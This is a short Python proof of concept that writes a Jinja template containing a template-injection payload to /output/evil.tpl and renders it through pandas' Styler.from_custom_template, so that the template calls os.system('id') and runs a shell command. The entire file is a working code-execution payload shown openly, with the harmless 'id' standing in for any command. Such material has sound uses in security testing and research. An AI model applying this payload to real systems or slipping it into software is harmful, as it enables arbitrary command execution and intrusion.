# A Jinja template with a payload, written to /output and loaded back through pandas' Styler.
import pandas as pd

with open("/output/evil.tpl", "w") as handle:
    handle.write("{{ self.__init__.__globals__['os'].system('id') }}")
styler = pd.DataFrame({"a": [1]}).style.from_custom_template("/output", "evil.tpl")
print(styler(pd.DataFrame({"a": [1]}).style).to_html())
